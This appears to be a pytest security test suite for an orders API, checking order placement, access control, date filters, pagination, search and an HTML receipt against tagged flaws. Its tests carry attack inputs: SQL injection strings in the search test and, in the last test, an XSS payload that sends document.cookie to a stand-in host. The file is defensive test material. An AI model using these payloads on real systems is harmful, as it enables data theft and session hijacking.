"""Placing, reading, listing and searching orders, and the HTML receipt.

Each exploit test is written the way an attacker or a careless client would act; the test
above it in the same section shows the honest use that must keep working.
"""

from datetime import UTC, datetime, timedelta

import pytest
from conftest import ORDERS, PAGE_SIZE, SEARCH, items, money, place

# -- placing an order -------------------------------------------------------------------


def test_an_order_is_placed_with_its_lines_and_total(as_alice, catalogue):
    response = place(as_alice, ("DESK-01", 2), ("BOLT-M6", 10))
    assert response.status_code == 201, response.content
    order = response.json()
    assert order["status"] == "pending"
    assert money(order["total"]) == money("40.98"), "2 x 19.99 + 10 x 0.10"
    assert sorted(line["quantity"] for line in order["lines"]) == [2, 10]


def test_an_unknown_product_is_a_400(as_alice, catalogue):
    response = place(as_alice, ("NOPE-99", 1))
    assert response.status_code == 400
    assert "NOPE-99" in response.content.decode(), "the error should name the unknown SKU"


def test_a_retired_product_cannot_be_ordered(as_alice, catalogue):
    assert place(as_alice, ("LAMP-OLD", 1)).status_code == 400


# --8<-- [start:mass-assignment]
@pytest.mark.flaw("D6-F3")
def test_the_client_cannot_decide_the_order_is_paid(as_mallory, catalogue):
    response = place(as_mallory, ("DESK-01", 1), status="paid", total="0.01")
    assert response.status_code in (201, 400), response.content
    from orders.models import Order

    statuses = list(Order.objects.values_list("status", flat=True))
    assert "paid" not in statuses, (
        "POST /api/orders/ with status=paid created a paid order: only the payment "
        "webhook may mark an order paid"
    )


# --8<-- [end:mass-assignment]


@pytest.mark.flaw("D6-F4")
@pytest.mark.parametrize("quantity", [-5, 0])
def test_a_line_needs_a_positive_quantity(as_mallory, catalogue, quantity):
    response = place(as_mallory, ("DESK-01", 3), ("DESK-01", quantity))
    assert response.status_code == 400, (
        f"a line of {quantity} desks was accepted (status {response.status_code}, "
        f"{response.content.decode()[:120]}): quantities start at 1"
    )


@pytest.mark.flaw("D6-F5")
def test_totals_are_exact_to_the_cent(as_alice, catalogue):
    response = place(as_alice, ("BOLT-M6", 3))
    assert response.status_code == 201, response.content
    total = response.json()["total"]
    assert money(total) == money("0.30"), f"3 bolts at 0.10 cost 0.30, the API says {total!r}"


# --8<-- [start:partial-write]
@pytest.mark.flaw("D6-F6")
def test_a_rejected_order_leaves_nothing_behind(as_alice, alice, catalogue):
    response = place(as_alice, ("DESK-01", 1), ("NOPE-99", 1))
    assert response.status_code == 400
    assert not alice.orders.exists(), (
        "the order was refused with a 400, yet an order row (with its first line) was "
        "saved: a failed request must write nothing"
    )


# --8<-- [end:partial-write]


# -- reading one order ------------------------------------------------------------------


def test_a_customer_reads_their_own_order(as_alice, alices_order):
    response = as_alice.get(f"{ORDERS}{alices_order['id']}/")
    assert response.status_code == 200
    assert response.json()["reference"] == "PO-ALICE"


# --8<-- [start:idor]
@pytest.mark.flaw("D6-F2")
def test_another_customers_order_is_not_found(as_mallory, alices_order):
    response = as_mallory.get(f"{ORDERS}{alices_order['id']}/")
    assert response.status_code == 404, (
        f"mallory read alice's order {alices_order['id']} (status {response.status_code}): "
        "orders of other customers must be a 404"
    )


# --8<-- [end:idor]


def test_anonymous_callers_are_refused(client, alices_order):
    assert client.get(f"{ORDERS}{alices_order['id']}/").status_code in (401, 403)
    assert client.get(ORDERS).status_code in (401, 403)


# -- the list and its statement filter ----------------------------------------------------


def _order_at(owner, reference, when):
    from orders.models import Order

    order = Order.objects.create(owner=owner, reference=reference)
    Order.objects.filter(pk=order.pk).update(created_at=when)  # auto_now_add ignores a value
    return order


@pytest.fixture
def march(alice):
    _order_at(alice, "FEB-28", datetime(2026, 2, 28, 23, 59, tzinfo=UTC))
    _order_at(alice, "MAR-01", datetime(2026, 3, 1, 0, 0, tzinfo=UTC))
    _order_at(alice, "MAR-31-PM", datetime(2026, 3, 31, 14, 30, tzinfo=UTC))
    _order_at(alice, "APR-01", datetime(2026, 4, 1, 0, 0, tzinfo=UTC))


def test_the_list_shows_only_the_callers_orders(as_mallory, alices_order):
    response = as_mallory.get(ORDERS)
    assert response.status_code == 200
    assert items(response.json()) == []


def _statement(client, **dates):
    response = client.get(ORDERS, dates)
    assert response.status_code == 200, response.content
    return sorted(order["reference"] for order in items(response.json()))


def test_the_statement_starts_at_midnight_on_date_from(as_alice, march):
    assert _statement(as_alice, date_from="2026-03-01") == ["APR-01", "MAR-01", "MAR-31-PM"]


@pytest.mark.flaw("D6-F13")
def test_the_statement_includes_the_whole_of_date_to(as_alice, march):
    march_only = _statement(as_alice, date_from="2026-03-01", date_to="2026-03-31")
    assert march_only == ["MAR-01", "MAR-31-PM"], (
        "date_to=2026-03-31 must include orders placed on the 31st, and nothing from April"
    )


@pytest.mark.flaw("D6-F13")
def test_a_malformed_date_is_a_400(as_alice, march):
    response = as_alice.get(ORDERS, {"date_to": "31/03/2026"})
    assert response.status_code == 400, (
        f"date_to=31/03/2026 answered {response.status_code}: bad input is a 400 that says why"
    )


@pytest.mark.flaw("D6-F14")
def test_the_list_is_paginated(as_alice, alice):
    from orders.models import Order

    Order.objects.bulk_create(
        Order(owner=alice, reference=f"PO-{n:04}") for n in range(PAGE_SIZE + 10)
    )
    data = as_alice.get(ORDERS).json()
    next_page = data.get("next") if isinstance(data, dict) else None
    assert next_page, (
        f"GET {ORDERS} returned all {len(items(data))} orders at once: pages of at most "
        f"{PAGE_SIZE}, with a link to the next page"
    )
    assert len(items(data)) <= PAGE_SIZE


# -- search -------------------------------------------------------------------------------


def test_search_finds_the_callers_orders_by_reference_prefix(as_alice, alice, mallory):
    now = datetime.now(UTC)
    _order_at(alice, "PO-2026-001", now)
    _order_at(alice, "INV-7", now - timedelta(days=1))
    _order_at(mallory, "PO-2026-999", now)
    response = as_alice.get(SEARCH, {"q": "PO-2026"})
    assert response.status_code == 200
    assert [order["reference"] for order in items(response.json())] == ["PO-2026-001"]


# --8<-- [start:sql-injection]
@pytest.mark.flaw("D6-F1")
@pytest.mark.parametrize("q", ["' OR 1=1 --", "x' OR reference LIKE '"])
def test_search_input_is_data_not_sql(as_mallory, alices_order, q):
    response = as_mallory.get(SEARCH, {"q": q})
    found = (
        [order["reference"] for order in items(response.json())]
        if response.status_code == 200
        else []
    )
    assert "PO-ALICE" not in found, f"searching for {q!r} returned another customer's order"


# --8<-- [end:sql-injection]


# -- the HTML receipt ----------------------------------------------------------------------


def test_the_receipt_keeps_the_notes_line_breaks(as_alice, catalogue):
    order = place(as_alice, ("DESK-01", 1), note="Ring twice\nLeave at door 3").json()
    page = as_alice.get(f"/orders/{order['id']}/receipt/").content.decode()
    assert "Ring twice<br>Leave at door 3" in page


def test_a_receipt_is_only_shown_to_its_owner(as_mallory, alices_order):
    assert as_mallory.get(f"/orders/{alices_order['id']}/receipt/").status_code == 404


@pytest.mark.flaw("D6-F11")
def test_markup_in_the_note_is_shown_as_text(as_mallory, catalogue):
    payload = "<img src=x onerror=fetch('//evil.test/'+document.cookie)>"
    order = place(as_mallory, ("DESK-01", 1), note=payload).json()
    page = as_mallory.get(f"/orders/{order['id']}/receipt/").content.decode()
    assert "<img src=x" not in page, "the note's HTML reached the receipt page unescaped"
    assert "&lt;img src=x" in page
